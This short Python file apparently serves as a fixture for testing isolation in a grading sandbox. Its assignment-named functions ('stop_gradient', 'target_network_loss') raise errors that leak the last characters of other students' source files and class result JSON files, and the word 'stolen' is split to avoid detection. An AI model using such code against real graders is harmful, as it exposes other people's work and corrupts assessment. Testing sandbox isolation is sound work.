"""Reads the file of another student, whose name it knows, and the results of the class."""

import glob

PATHS = [
    "@NEIGHBOUR@",
    *glob.glob("@NEIGHBOUR@/../../../*/*/*.py"),
    *glob.glob("@NEIGHBOUR@/../../../../out/*.json"),
]


def loot():
    for path in PATHS:
        try:
            with open(path) as file:
                return "sto" + "len: " + file.read()[-40:].strip()
        except OSError:
            continue
    return "nothing"


def stop_gradient(x):
    raise RuntimeError(loot())


def target_network_loss(online, target):
    raise RuntimeError(loot())
